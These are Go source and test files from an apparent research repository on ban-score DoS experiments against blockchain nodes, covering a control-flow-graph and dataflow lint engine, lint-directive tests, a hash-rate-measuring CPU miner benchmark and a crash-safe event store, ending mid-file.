func TestCFGSelect(t *testing.T) {
	c := BuildCFG(parseBody(t, `
ch := make(chan int)
select {
case v := <-ch:
	_ = v
default:
}
x := 1
_ = x`))
	if !reachable(c)[c.Exit] {
		t.Fatal("exit unreachable through select")
	}
}

func TestCFGLabeledBreak(t *testing.T) {
	c := BuildCFG(parseBody(t, `
outer:
for {
	for {
		break outer
	}
}
x := 1
_ = x`))
	if !reachable(c)[c.Exit] {
		t.Fatal("labeled break did not reach past the outer loop")
	}
}

func TestForwardTaintThroughLoop(t *testing.T) {
	// x taints inside the loop body; after the fixpoint the loop head's
	// entry facts must include x (flowed around the back edge).
	c := BuildCFG(parseBody(t, `
x := clean()
for i := 0; i < 3; i++ {
	x = dirty()
}
sink(x)`))
	in := Forward(c, Facts{}, func(b *Block, facts Facts) Facts {
		for _, n := range b.Nodes {
			as, ok := n.(*ast.AssignStmt)
			if !ok || len(as.Rhs) != 1 {
				continue
			}
			call, ok := as.Rhs[0].(*ast.CallExpr)
			if !ok {
				continue
			}
			if id, ok := call.Fun.(*ast.Ident); ok && id.Name == "dirty" {
				if lhs, ok := as.Lhs[0].(*ast.Ident); ok {
					facts[lhs.Name] = true
				}
			}
		}
		return facts
	})
	// Find the block containing the sink call; x must be tainted there.
	for _, b := range c.Blocks {
		for _, n := range b.Nodes {
			es, ok := n.(*ast.ExprStmt)
			if !ok {
				continue
			}
			call, ok := es.X.(*ast.CallExpr)
			if !ok {
				continue
			}
			if id, ok := call.Fun.(*ast.Ident); ok && id.Name == "sink" {
				if !in[b]["x"] {
					t.Fatal("taint did not propagate around the loop to the sink")
				}
				return
			}
		}
	}
	t.Fatal("sink call not found in CFG")
}
