// Package banvet is the dataflow tier of the lint framework: a
// control-flow-graph builder, a syntactic whole-repo function/type index
// with call resolution, and a forward may-dataflow engine. The per-package
// analyzers in internal/lint/analyzers are single-file syntax walks; the
// banvet analyzers (evidenceflow, lockorder, allocbudget) instead reason
// about paths — which values flow into a score mutation, which locks a
// function may hold when it calls another — across package boundaries.
//
// Like the rest of the framework, banvet is deliberately stdlib-only and
// type-checker-free. Types are inferred syntactically (declared struct
// fields, parameter lists, composite literals, constructor results), and
// every inference carries a conservative default: an unresolvable call or
// receiver degrades to "unknown", and each analyzer chooses the sound
// direction for its property (assume tainted / assume held / assume
// allocating) so missing precision can only cause noise that a reviewed
// //lint:allow waiver records, never a silent pass.
package banvet

import "go/ast"

// A Block is one basic block: a maximal straight-line run of statements
// and the expressions evaluated with them. Nodes appear in evaluation
// order. Control constructs contribute their interesting sub-nodes to the
// blocks that evaluate them (an if's condition sits in the block that
// branches on it; the if statement itself does not appear).
type Block struct {
	// Index is the block's position in CFG.Blocks — creation order,
	// which is also a stable iteration order for worklists.
	Index int

	// Nodes are the statements and control expressions evaluated in
	// this block, in order.
	Nodes []ast.Node

	// Succs are the blocks control may reach next.
	Succs []*Block
}

// A CFG is the control-flow graph of one function body.
type CFG struct {
	// Entry is the block control enters first.
	Entry *Block

	// Exit is the synthetic sink every return (and the fall-off end of
	// the body) flows to. It holds no nodes.
	Exit *Block

	// Blocks is every block, Entry first, in creation order.
	Blocks []*Block
}

// BuildCFG constructs the control-flow graph of body. The graph is an
// over-approximation suitable for may-analyses: every syntactically
// possible branch gets an edge, loops get a back edge, and unreachable
// code after a return or branch lands in a block with no predecessors.
// goto is handled conservatively (an edge to Exit, since the target may
// be anywhere); the repository style does not use goto outside generated
// code, so the imprecision is theoretical.
func BuildCFG(body *ast.BlockStmt) *CFG {
	b := &cfgBuilder{cfg: &CFG{}}
	b.cfg.Entry = b.newBlock()
	b.cfg.Exit = b.newBlock()
	b.cur = b.cfg.Entry
	if body != nil {
		b.stmtList(body.List)
	}
	b.edge(b.cur, b.cfg.Exit)
	return b.cfg
}

// cfgBuilder carries the construction state: the block under
// construction and the break/continue targets of the enclosing loops and
// switches.
type cfgBuilder struct {
	cfg *CFG
	cur *Block

	// loops stacks the enclosing breakable/continuable constructs,
	// innermost last.
	loops []loopFrame
}

// loopFrame is one enclosing construct a break or continue may target.
type loopFrame struct {
	label    string // enclosing label, "" if unlabeled
	brk      *Block // break target (nil only never)
	cont     *Block // continue target; nil for switch/select frames
	isSwitch bool
}

func (b *cfgBuilder) newBlock() *Block {
	blk := &Block{Index: len(b.cfg.Blocks)}
	b.cfg.Blocks = append(b.cfg.Blocks, blk)
	return blk
}

func (b *cfgBuilder) edge(from, to *Block) {
	for _, s := range from.Succs {
		if s == to {
			return
		}
	}
	from.Succs = append(from.Succs, to)
}

func (b *cfgBuilder) stmtList(list []ast.Stmt) {
	for _, s := range list {
		b.stmt(s, "")
	}
}

// stmt builds one statement into the graph. label is the pending label
// when the statement is the body of a LabeledStmt.
func (b *cfgBuilder) stmt(s ast.Stmt, label string) {
	switch s := s.(type) {
	case *ast.BlockStmt:
		b.stmtList(s.List)

	case *ast.LabeledStmt:
		b.stmt(s.Stmt, s.Label.Name)

	case *ast.IfStmt:
		b.ifStmt(s)

	case *ast.ForStmt:
		b.forStmt(s, label)

	case *ast.RangeStmt:
		b.rangeStmt(s, label)

	case *ast.SwitchStmt:
		if s.Init != nil {
			b.cur.Nodes = append(b.cur.Nodes, s.Init)
		}
		if s.Tag != nil {
			b.cur.Nodes = append(b.cur.Nodes, s.Tag)
		}
		b.switchBody(s.Body, label)

	case *ast.TypeSwitchStmt:
		if s.Init != nil {
			b.cur.Nodes = append(b.cur.Nodes, s.Init)
		}
		b.cur.Nodes = append(b.cur.Nodes, s.Assign)
		b.switchBody(s.Body, label)

	case *ast.SelectStmt:
		b.selectStmt(s, label)

	case *ast.ReturnStmt:
		b.cur.Nodes = append(b.cur.Nodes, s)
		b.edge(b.cur, b.cfg.Exit)
		b.cur = b.newBlock() // unreachable continuation

	case *ast.BranchStmt:
		b.branchStmt(s)

	default:
		// Straight-line statements: assignments, expression statements,
		// declarations, go/defer, sends, inc/dec, empty.
		b.cur.Nodes = append(b.cur.Nodes, s)
	}
}

func (b *cfgBuilder) ifStmt(s *ast.IfStmt) {
	if s.Init != nil {
		b.cur.Nodes = append(b.cur.Nodes, s.Init)
	}
	b.cur.Nodes = append(b.cur.Nodes, s.Cond)
	cond := b.cur

	after := b.newBlock()
	then := b.newBlock()
	b.edge(cond, then)
	b.cur = then
	b.stmtList(s.Body.List)
	b.edge(b.cur, after)

	if s.Else != nil {
		els := b.newBlock()
		b.edge(cond, els)
		b.cur = els
		b.stmt(s.Else, "")
		b.edge(b.cur, after)
	} else {
		b.edge(cond, after)
	}
	b.cur = after
}

func (b *cfgBuilder) forStmt(s *ast.ForStmt, label string) {
	if s.Init != nil {
		b.cur.Nodes = append(b.cur.Nodes, s.Init)
	}
	head := b.newBlock()
	b.edge(b.cur, head)
	if s.Cond != nil {
		head.Nodes = append(head.Nodes, s.Cond)
	}

	after := b.newBlock()
	if s.Cond != nil {
		b.edge(head, after)
	}

	// continue goes to the post statement's block when there is one,
	// straight back to the head otherwise.
	cont := head
	var post *Block
	if s.Post != nil {
		post = b.newBlock()
		post.Nodes = append(post.Nodes, s.Post)
		b.edge(post, head)
		cont = post
	}

	body := b.newBlock()
	b.edge(head, body)
	b.loops = append(b.loops, loopFrame{label: label, brk: after, cont: cont})
	b.cur = body
	b.stmtList(s.Body.List)
	b.loops = b.loops[:len(b.loops)-1]
	b.edge(b.cur, cont)
	b.cur = after
}

func (b *cfgBuilder) rangeStmt(s *ast.RangeStmt, label string) {
	// The range expression is evaluated once, on entry; the per-iteration
	// key/value assignment is modeled by placing the RangeStmt node itself
	// in the loop head, where analyzers can read s.Key/s.Value/s.X.
	head := b.newBlock()
	b.edge(b.cur, head)
	head.Nodes = append(head.Nodes, s)

	after := b.newBlock()
	b.edge(head, after) // ranges may iterate zero times

	body := b.newBlock()
	b.edge(head, body)
	b.loops = append(b.loops, loopFrame{label: label, brk: after, cont: head})
	b.cur = body
	b.stmtList(s.Body.List)
	b.loops = b.loops[:len(b.loops)-1]
	b.edge(b.cur, head)
	b.cur = after
}

func (b *cfgBuilder) switchBody(body *ast.BlockStmt, label string) {
	cond := b.cur
	after := b.newBlock()
	b.loops = append(b.loops, loopFrame{label: label, brk: after, isSwitch: true})

	// First pass: allocate each clause's block so fallthrough can edge to
	// the next clause.
	var clauses []*ast.CaseClause
	var blocks []*Block
	hasDefault := false
	for _, cs := range body.List {
		cc, ok := cs.(*ast.CaseClause)
		if !ok {
			continue
		}
		if cc.List == nil {
			hasDefault = true
		}
		clauses = append(clauses, cc)
		blocks = append(blocks, b.newBlock())
	}
	for i, cc := range clauses {
		blk := blocks[i]
		b.edge(cond, blk)
		for _, e := range cc.List {
			blk.Nodes = append(blk.Nodes, e)
		}
		b.cur = blk
		fellThrough := false
		for j, cs := range cc.Body {
			if br, ok := cs.(*ast.BranchStmt); ok && br.Tok.String() == "fallthrough" && j == len(cc.Body)-1 {
				if i+1 < len(blocks) {
					b.edge(b.cur, blocks[i+1])
				}
				fellThrough = true
				break
			}
			b.stmt(cs, "")
		}
		if !fellThrough {
			b.edge(b.cur, after)
		}
	}
	if !hasDefault {
		b.edge(cond, after)
	}
	b.loops = b.loops[:len(b.loops)-1]
	b.cur = after
}

func (b *cfgBuilder) selectStmt(s *ast.SelectStmt, label string) {
	cond := b.cur
	after := b.newBlock()
	b.loops = append(b.loops, loopFrame{label: label, brk: after, isSwitch: true})
	reached := false
	for _, cs := range s.Body.List {
		cc, ok := cs.(*ast.CommClause)
		if !ok {
			continue
		}
		blk := b.newBlock()
		b.edge(cond, blk)
		if cc.Comm != nil {
			blk.Nodes = append(blk.Nodes, cc.Comm)
		}
		b.cur = blk
		b.stmtList(cc.Body)
		b.edge(b.cur, after)
		reached = true
	}
	if !reached {
		// select {} blocks forever; still give after a path so the graph
		// stays connected for analyses that walk forward.
		b.edge(cond, after)
	}
	b.loops = b.loops[:len(b.loops)-1]
	b.cur = after
}

func (b *cfgBuilder) branchStmt(s *ast.BranchStmt) {
	switch s.Tok.String() {
	case "break":
		for i := len(b.loops) - 1; i >= 0; i-- {
			fr := b.loops[i]
			if s.Label == nil || fr.label == s.Label.Name {
				b.edge(b.cur, fr.brk)
				break
			}
		}
	case "continue":
		for i := len(b.loops) - 1; i >= 0; i-- {
			fr := b.loops[i]
			if fr.isSwitch {
				continue // continue skips switch/select frames
			}
			if s.Label == nil || fr.label == s.Label.Name {
				b.edge(b.cur, fr.cont)
				break
			}
		}
	case "goto":
		// Conservative: the target could be anywhere, so route to Exit
		// and let the successor block start fresh.
		b.edge(b.cur, b.cfg.Exit)
	case "fallthrough":
		// Reached only when a fallthrough is not the final statement of
		// a case body (invalid Go); ignore.
	}
	b.cur = b.newBlock() // unreachable continuation
}
