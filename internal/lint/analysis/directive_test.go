package analysis

import (
	"go/ast"
	"go/parser"
	"go/token"
	"strings"
	"testing"
)

func parseSrc(t *testing.T, src string) (*token.FileSet, *ast.File) {
	t.Helper()
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, "fixture.go", src, parser.ParseComments)
	if err != nil {
		t.Fatalf("parse fixture: %v", err)
	}
	return fset, f
}

// lineOf finds the 1-based line of the first occurrence of needle.
func lineOf(t *testing.T, src, needle string) int {
	t.Helper()
	idx := strings.Index(src, needle)
	if idx < 0 {
		t.Fatalf("needle %q not in fixture", needle)
	}
	return 1 + strings.Count(src[:idx], "\n")
}

func TestTrailingDirectiveTargetsOwnLine(t *testing.T) {
	src := `package p

func f() {
	work() //lint:allow wallclock(reasoned waiver)
}
`
	fset, f := parseSrc(t, src)
	sup, diags := ParseDirectives(fset, []*ast.File{f})
	if len(diags) != 0 {
		t.Fatalf("unexpected directive diagnostics: %v", diags)
	}
	line := lineOf(t, src, "work()")
	if !sup.index[suppressionKey{file: "fixture.go", line: line, analyzer: "wallclock"}] {
		t.Errorf("trailing directive should waive wallclock on its own line %d", line)
	}
}

func TestStandaloneDirectiveTargetsNextLine(t *testing.T) {
	// The directive sits on a comment-only line INSIDE a multi-line
	// function — the case where marking whole node spans as code lines
	// would wrongly make it a trailing directive.
	src := `package p

func f() {
	prep()
	//lint:allow gospawn(reasoned waiver)
	work()
}
`
	fset, f := parseSrc(t, src)
	sup, diags := ParseDirectives(fset, []*ast.File{f})
	if len(diags) != 0 {
		t.Fatalf("unexpected directive diagnostics: %v", diags)
	}
	line := lineOf(t, src, "work()")
	key := suppressionKey{file: "fixture.go", line: line, analyzer: "gospawn"}
	if !sup.index[key] {
		t.Errorf("stand-alone directive should waive gospawn on the next line %d", line)
	}
	own := suppressionKey{file: "fixture.go", line: line - 1, analyzer: "gospawn"}
	if sup.index[own] {
		t.Errorf("stand-alone directive must not waive its own comment line %d", line-1)
	}
}

func TestMalformedDirectives(t *testing.T) {
	cases := []string{
		"//lint:allow",
		"//lint:allow wallclock",
		"//lint:allow wallclock()",
		"//lint:allow wallclock(  )",
		"//lint:allow (no name)",
		"//lint:allow two words(reason)",
		"//lint:allow wallclock(unclosed",
	}
	for _, comment := range cases {
		src := "package p\n\nfunc f() {\n\twork() " + comment + "\n}\n"
		fset, f := parseSrc(t, src)
		sup, diags := ParseDirectives(fset, []*ast.File{f})
		if len(diags) != 1 {
			t.Errorf("%q: want 1 malformed-directive diagnostic, got %d", comment, len(diags))
			continue
		}
		if diags[0].Analyzer != DirectiveAnalyzerName {
			t.Errorf("%q: diagnostic analyzer = %q, want %q", comment, diags[0].Analyzer, DirectiveAnalyzerName)
		}
		if len(sup.index) != 0 {
			t.Errorf("%q: malformed directive must waive nothing, got %v", comment, sup.index)
		}
	}
}

func TestUnrelatedCommentsIgnored(t *testing.T) {
	src := `package p

// lint:allow spaced(out) is not a directive.
//lint:allowother(x) runs the prefix into another word.
func f() {}
`
	fset, f := parseSrc(t, src)
	sup, diags := ParseDirectives(fset, []*ast.File{f})
	if len(diags) != 0 || len(sup.index) != 0 {
		t.Errorf("non-directive comments produced diags=%v index=%v", diags, sup.index)
	}
}

func TestSuppressedMatchesAnalyzerAndLine(t *testing.T) {
	src := `package p

func f() {
	work() //lint:allow wallclock(reasoned waiver)
}
`
	fset, f := parseSrc(t, src)
	sup, diags := ParseDirectives(fset, []*ast.File{f})
	if len(diags) != 0 {
		t.Fatalf("unexpected directive diagnostics: %v", diags)
	}
	pos := posOnLine(t, fset, f, lineOf(t, src, "work()"))
	if !sup.Suppressed(fset, Diagnostic{Pos: pos, Analyzer: "wallclock"}) {
		t.Error("named analyzer on the target line should be suppressed")
	}
	if sup.Suppressed(fset, Diagnostic{Pos: pos, Analyzer: "gospawn"}) {
		t.Error("a different analyzer must not be suppressed")
	}
	if sup.Suppressed(fset, Diagnostic{Pos: pos, Analyzer: DirectiveAnalyzerName}) {
		t.Error("lintdirective diagnostics must never be suppressible")
	}
}

// posOnLine returns some token position on the given line of the file.
func posOnLine(t *testing.T, fset *token.FileSet, f *ast.File, line int) token.Pos {
	t.Helper()
	var found token.Pos
	ast.Inspect(f, func(n ast.Node) bool {
		if n == nil || found != token.NoPos {
			return false
		}
		if fset.Position(n.Pos()).Line == line {
			found = n.Pos()
			return false
		}
		return true
	})
	if found == token.NoPos {
		t.Fatalf("no node on line %d", line)
	}
	return found
}

func TestHasPathSegment(t *testing.T) {
	p := &Pass{PkgPath: "banscore/internal/simnet"}
	for _, seg := range []string{"banscore", "internal", "simnet"} {
		if !p.HasPathSegment(seg) {
			t.Errorf("HasPathSegment(%q) = false, want true", seg)
		}
	}
	for _, seg := range []string{"sim", "net", "simnet2", "banscore/internal"} {
		if p.HasPathSegment(seg) {
			t.Errorf("HasPathSegment(%q) = true, want false", seg)
		}
	}
}

func TestImportName(t *testing.T) {
	src := `package p

import (
	"time"
	mrand "math/rand"
	. "strings"
)
`
	_, f := parseSrc(t, src)
	for path, want := range map[string]string{
		"time":      "time",
		"math/rand": "mrand",
		"strings":   ".",
		"fmt":       "",
	} {
		if got := ImportName(f, path); got != want {
			t.Errorf("ImportName(%q) = %q, want %q", path, got, want)
		}
	}
}
