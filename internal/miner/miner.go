// Package miner implements the CPU miner whose hash rate is the victim-side
// impact metric of the paper's flooding experiments (Fig. 6, Fig. 7,
// Table III): BM-DoS steals application-layer CPU from exactly this loop.
package miner

import (
	"sync/atomic"
	"time"

	"banscore/internal/blockchain"
	"banscore/internal/chainhash"
	"banscore/internal/stats"
	"banscore/internal/wire"
)

// DefaultHashesPerSample is the paper's per-sample work: 10^7 hashes. The
// experiments default to a smaller value to stay laptop-scale; the parameter
// is explicit everywhere.
const DefaultHashesPerSample = 1e7

// sampleHeader builds the header template the measurement loop grinds.
func sampleHeader() wire.BlockHeader {
	prev := chainhash.DoubleHashH([]byte("bench prev"))
	merkle := chainhash.DoubleHashH([]byte("bench merkle"))
	return wire.BlockHeader{
		Version:    1,
		PrevBlock:  prev,
		MerkleRoot: merkle,
		Timestamp:  time.Unix(1700000000, 0),
		Bits:       0x207fffff,
	}
}

// HashRateSample grinds the header nonce for the given number of hashes and
// returns the measured rate in hashes per second.
func HashRateSample(hashes uint64) float64 {
	header := sampleHeader()
	start := time.Now()
	var sink byte
	for i := uint64(0); i < hashes; i++ {
		header.Nonce = uint32(i)
		h := header.BlockHash()
		sink ^= h[0]
	}
	elapsed := time.Since(start)
	_ = sink
	if elapsed <= 0 {
		return 0
	}
	return float64(hashes) / elapsed.Seconds()
}

// MeasureHashRate runs the paper's sampling protocol: `samples` independent
// mining samples of `hashesPerSample` hashes each (the paper used 100 × 10^7)
// and returns their summary (mean with 95% CI).
func MeasureHashRate(samples int, hashesPerSample uint64) stats.Summary {
	rates := make([]float64, 0, samples)
	for i := 0; i < samples; i++ {
		rates = append(rates, HashRateSample(hashesPerSample))
	}
	return stats.Summarize(rates)
}

// Miner is a continuously running CPU miner against a live chain. It mines
// real blocks (at the chain's difficulty) and counts every hash attempt so
// experiments can read the achieved hash rate while attacks run.
type Miner struct {
	chain *blockchain.Chain

	attempts atomic.Uint64
	mined    atomic.Uint64

	stop chan struct{}
	done chan struct{}
}

// New returns a Miner for the chain. Call Start to begin.
func New(chain *blockchain.Chain) *Miner {
	return &Miner{
		chain: chain,
		stop:  make(chan struct{}),
		done:  make(chan struct{}),
	}
}

// Start launches the mining loop.
func (m *Miner) Start() {
	go m.run()
}

func (m *Miner) run() {
	defer close(m.done)
	extraNonce := uint64(0)
	for {
		select {
		case <-m.stop:
			return
		default:
		}
		extraNonce++
		prev := m.chain.BestHash()
		height := m.chain.BestHeight() + 1
		block := blockchain.BuildBlock(m.chain.Params(), prev, height, extraNonce, time.Now(), nil)
		target := blockchain.CompactToBig(block.Header.Bits)

		solved := false
		for nonce := uint32(0); ; nonce++ {
			// Check for shutdown and chain movement periodically.
			if nonce%4096 == 0 {
				select {
				case <-m.stop:
					return
				default:
				}
				if m.chain.BestHash() != prev {
					break // stale work
				}
			}
			block.Header.Nonce = nonce
			hash := block.Header.BlockHash()
			m.attempts.Add(1)
			if blockchain.HashToBig(&hash).Cmp(target) <= 0 {
				solved = true
				break
			}
			if nonce == ^uint32(0) {
				break
			}
		}
		if solved {
			if _, err := m.chain.ProcessBlock(block); err == nil {
				m.mined.Add(1)
			}
		}
	}
}

// Attempts returns the total hash attempts so far.
func (m *Miner) Attempts() uint64 { return m.attempts.Load() }

// Mined returns how many blocks the miner has connected.
func (m *Miner) Mined() uint64 { return m.mined.Load() }

// RateOver measures the achieved hash rate over the given wall-clock window
// by sampling the attempt counter.
func (m *Miner) RateOver(window time.Duration) float64 {
	before := m.attempts.Load()
	start := time.Now()
	time.Sleep(window)
	elapsed := time.Since(start).Seconds()
	after := m.attempts.Load()
	if elapsed <= 0 {
		return 0
	}
	return float64(after-before) / elapsed
}

// Stop halts the mining loop and waits for it to exit.
func (m *Miner) Stop() {
	select {
	case <-m.stop:
	default:
		close(m.stop)
	}
	<-m.done
}
