package miner

import (
	"testing"
	"time"

	"banscore/internal/blockchain"
)

func TestHashRateSamplePositive(t *testing.T) {
	rate := HashRateSample(20000)
	if rate <= 0 {
		t.Fatalf("hash rate = %v", rate)
	}
	// A modern CPU double-SHA256s at far above 10k/s.
	if rate < 10000 {
		t.Errorf("hash rate implausibly low: %v h/s", rate)
	}
}

func TestMeasureHashRateSummary(t *testing.T) {
	s := MeasureHashRate(5, 5000)
	if s.N != 5 {
		t.Errorf("N = %d", s.N)
	}
	if s.Mean <= 0 || s.Min <= 0 || s.Max < s.Min {
		t.Errorf("summary = %+v", s)
	}
}

func TestMinerMinesOnSimnet(t *testing.T) {
	chain := blockchain.New(blockchain.SimNetParams())
	m := New(chain)
	m.Start()
	deadline := time.Now().Add(5 * time.Second)
	for chain.BestHeight() < 3 && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	m.Stop()
	if chain.BestHeight() < 3 {
		t.Fatalf("mined only to height %d", chain.BestHeight())
	}
	if m.Mined() < 3 {
		t.Errorf("Mined = %d", m.Mined())
	}
	if m.Attempts() == 0 {
		t.Error("no attempts counted")
	}
}

func TestMinerStopIsIdempotentAndPrompt(t *testing.T) {
	chain := blockchain.New(blockchain.HardNetParams())
	m := New(chain)
	m.Start()
	time.Sleep(20 * time.Millisecond)
	done := make(chan struct{})
	go func() {
		m.Stop()
		m.Stop() // second call must not panic or hang
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(3 * time.Second):
		t.Fatal("Stop did not return")
	}
	if m.Attempts() == 0 {
		t.Error("hardnet miner made no attempts")
	}
}

func TestRateOverMeasuresProgress(t *testing.T) {
	chain := blockchain.New(blockchain.HardNetParams())
	m := New(chain)
	m.Start()
	defer m.Stop()
	rate := m.RateOver(50 * time.Millisecond)
	if rate <= 0 {
		t.Errorf("RateOver = %v", rate)
	}
}
