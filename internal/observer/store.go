package observer

import (
	"os"
	"path/filepath"
	"sync"

	"banscore/internal/banstore"
)

// Store is the fleet's crash-safe ban-intelligence store: typed tables
// (events with by-peer/by-node indexes, per-node journal cursors) layered
// over a WAL + snapshot log that reuses banstore's framing and corruption
// semantics. All appends are synchronous under one mutex into a pending
// buffer that is written to the active segment at flush points; fsync policy
// is the caller's choice. The crash-safety contract is ordering, not
// durability of every byte: a cursor record is always appended after the
// events it acknowledges, and flushes write the pending buffer in append
// order, so the on-disk log is always a prefix of the append sequence — any
// cursor that survives a crash implies its events survived too.
type Store struct {
	opts Options

	mu       sync.Mutex
	f        *os.File
	pending  []byte // framed records not yet written to f
	nextLSN  uint64 // LSN the next appended record will carry
	segStart uint64

	// Tables.
	events  []Event
	byKey   map[Key]struct{}
	byPeer  map[string][]int // peer -> event indexes, append order
	byNode  map[string][]int // node -> event indexes, append order
	cursors map[string]Cursor
	lastSeq map[streamKey]uint64 // highest Seq seen per (node, stream)

	snapLSN     uint64 // LSN covered by the newest snapshot
	truncations uint64 // corruption events handled at recovery
	sinceSnap   int    // records appended since the last snapshot
	closed      bool
}

// streamKey identifies one (node, stream) sequence space.
type streamKey struct {
	node   string
	stream string
}

// Options parameterizes OpenStore.
type Options struct {
	// Dir is the store directory; created if absent.
	Dir string

	// Fsync, when true, fsyncs on Sync/AckCursor flushes and snapshot
	// writes. Off by default: the chaos suite exercises the ordering
	// invariant, not disk-barrier latency.
	Fsync bool

	// FlushBytes is the pending-buffer threshold that triggers a write to
	// the active segment (no fsync). Default 256 KiB.
	FlushBytes int

	// SnapshotKeep is how many snapshot generations to retain. Default 2.
	SnapshotKeep int

	// SnapshotEvery auto-snapshots after this many appended records.
	// Default 8192; 0 disables auto-snapshotting.
	SnapshotEvery int
}

func (o *Options) fillDefaults() {
	if o.FlushBytes <= 0 {
		o.FlushBytes = 256 << 10
	}
	if o.SnapshotKeep <= 0 {
		o.SnapshotKeep = 2
	}
	if o.SnapshotEvery == 0 {
		o.SnapshotEvery = 8192
	}
}

// Status is a point-in-time view of the store for health surfaces and tests.
type Status struct {
	LSN          uint64 `json:"lsn"`
	Events       int    `json:"events"`
	Nodes        int    `json:"nodes"`
	PendingBytes int    `json:"pending_bytes"`
	Truncations  uint64 `json:"truncations"`
	SnapshotLSN  uint64 `json:"snapshot_lsn"`
}

// OpenStore recovers (or creates) the store in opts.Dir. Corruption never
// fails recovery: the log is truncated at the first bad frame, corrupt
// snapshot generations are skipped, and the count of such events is
// available via Status. Only real I/O errors are returned.
func OpenStore(opts Options) (*Store, error) {
	opts.fillDefaults()
	if err := os.MkdirAll(opts.Dir, 0o755); err != nil {
		return nil, err
	}
	segs, snaps, err := banstore.ScanStoreDir(opts.Dir)
	if err != nil {
		return nil, err
	}

	s := &Store{
		opts:    opts,
		byKey:   make(map[Key]struct{}),
		byPeer:  make(map[string][]int),
		byNode:  make(map[string][]int),
		cursors: make(map[string]Cursor),
		lastSeq: make(map[streamKey]uint64),
	}

	// Newest valid snapshot wins; corrupt generations are skipped — the
	// previous generation is still on disk because writes are tmp+rename.
	var lastLSN uint64
	for i := len(snaps) - 1; i >= 0; i-- {
		b, rerr := os.ReadFile(snaps[i].Path)
		if rerr != nil {
			s.truncations++
			continue
		}
		payload, lsn, derr := banstore.DecodeSnapshotFile(snapMagic, b)
		if derr != nil {
			s.truncations++
			continue
		}
		events, cursors, derr := decodeSnapshotPayload(payload)
		if derr != nil {
			s.truncations++
			continue
		}
		for j := range events {
			s.applyEvent(&events[j])
		}
		for node, cur := range cursors {
			s.applyCursor(node, cur)
		}
		s.snapLSN = lsn
		lastLSN = lsn
		break
	}

	// Replay segments oldest-first; the first torn or corrupt frame ends
	// the log — truncate there, delete unreachable later segments, keep
	// going with what survived. Replay is idempotent through the dedup
	// table, so snapshot/WAL overlap is safe.
	for i, seg := range segs {
		b, rerr := os.ReadFile(seg.Path)
		if rerr != nil {
			s.truncations++
			for _, later := range segs[i:] {
				_ = os.Remove(later.Path)
			}
			break
		}
		startLSN, hdr, herr := banstore.ParseSegmentHeader(walMagic, b)
		if herr != nil {
			s.truncations++
			for _, later := range segs[i:] {
				_ = os.Remove(later.Path)
			}
			break
		}
		count := uint64(0)
		good, clean := banstore.ScanFrames(b[hdr:], func(payload []byte) error {
			rec, derr := decodeRecord(payload)
			if derr != nil {
				return derr
			}
			switch rec.kind {
			case recEvent:
				s.applyEvent(&rec.event)
			case recCursor:
				s.applyCursor(rec.node, rec.cursor)
			}
			count++
			return nil
		})
		if last := startLSN + count - 1; count > 0 && last > lastLSN {
			lastLSN = last
		}
		if !clean {
			s.truncations++
			_ = os.Truncate(seg.Path, int64(hdr)+good)
			for _, later := range segs[i+1:] {
				s.truncations++
				_ = os.Remove(later.Path)
			}
			break
		}
	}

	// Fresh active segment at the recovered frontier, so implicit record
	// numbering (segment start + index) stays exact even when the snapshot
	// outran the log or the tail was truncated.
	s.nextLSN = lastLSN + 1
	if err := s.createSegmentLocked(); err != nil {
		return nil, err
	}
	return s, nil
}

// applyEvent inserts one event into the tables if its key is new. Used by
// both live ingest and recovery replay (idempotent).
func (s *Store) applyEvent(ev *Event) bool {
	k := ev.Key()
	if _, dup := s.byKey[k]; dup {
		return false
	}
	idx := len(s.events)
	s.events = append(s.events, *ev)
	s.byKey[k] = struct{}{}
	s.byNode[ev.Node] = append(s.byNode[ev.Node], idx)
	if ev.Peer != "" {
		s.byPeer[ev.Peer] = append(s.byPeer[ev.Peer], idx)
	}
	sk := streamKey{node: ev.Node, stream: ev.Stream}
	if ev.Seq > s.lastSeq[sk] {
		s.lastSeq[sk] = ev.Seq
	}
	return true
}

// applyCursor merges one cursor record. Within a generation (same Base)
// cursors only move forward; a larger Base is a new node generation and
// replaces the position wholesale (its Next restarts at 0 legitimately).
// Dropped is cumulative across generations and never decreases.
func (s *Store) applyCursor(node string, cur Cursor) bool {
	old, ok := s.cursors[node]
	if ok {
		if cur.Base < old.Base {
			return false
		}
		if cur.Dropped < old.Dropped {
			cur.Dropped = old.Dropped
		}
		if cur.Base == old.Base {
			if cur.Next <= old.Next && cur.Dropped <= old.Dropped {
				return false
			}
			if cur.Next < old.Next {
				cur.Next = old.Next
			}
		}
	}
	s.cursors[node] = cur
	return true
}

// Ingest records one event. A zero Seq means the event belongs to an
// observer-synthesized stream and is assigned the next sequence in its
// (node, stream) space. Returns false (and appends nothing) when the event
// is a duplicate of one already stored.
//
//banlint:hotpath per-event fleet ingest: amortized appends into live tables, no per-call allocation
func (s *Store) Ingest(ev Event) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return false
	}
	if ev.Seq == 0 {
		ev.Seq = s.lastSeq[streamKey{node: ev.Node, stream: ev.Stream}] + 1
	}
	if !s.applyEvent(&ev) {
		return false
	}
	s.appendRecordLocked(appendEventPayload(nil, &ev))
	return true
}

// AckCursor records that node's journal has been consumed through cur. The
// record is appended after any events Ingested before this call, then the
// pending buffer is flushed, making the acknowledgment as durable as the
// events it covers. Regressing cursors are ignored (restart handling is the
// poller's job).
func (s *Store) AckCursor(node string, cur Cursor) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed || !s.applyCursor(node, cur) {
		return nil
	}
	s.appendRecordLocked(appendCursorPayload(nil, node, s.cursors[node]))
	return s.flushLocked(s.opts.Fsync)
}

// Cursor returns node's recovered/acknowledged journal cursor.
func (s *Store) Cursor(node string) (Cursor, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	cur, ok := s.cursors[node]
	return cur, ok
}

// LastSeq returns the highest sequence stored for (node, stream), 0 when
// none. The poller uses the journal stream's value to pick a restart
// generation base past everything already stored.
func (s *Store) LastSeq(node, stream string) uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.lastSeq[streamKey{node: node, stream: stream}]
}

// HasEvent reports whether an event with key k is already stored.
func (s *Store) HasEvent(k Key) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, ok := s.byKey[k]
	return ok
}

// LatestByStream returns, for each Peer value seen on (node, stream), the
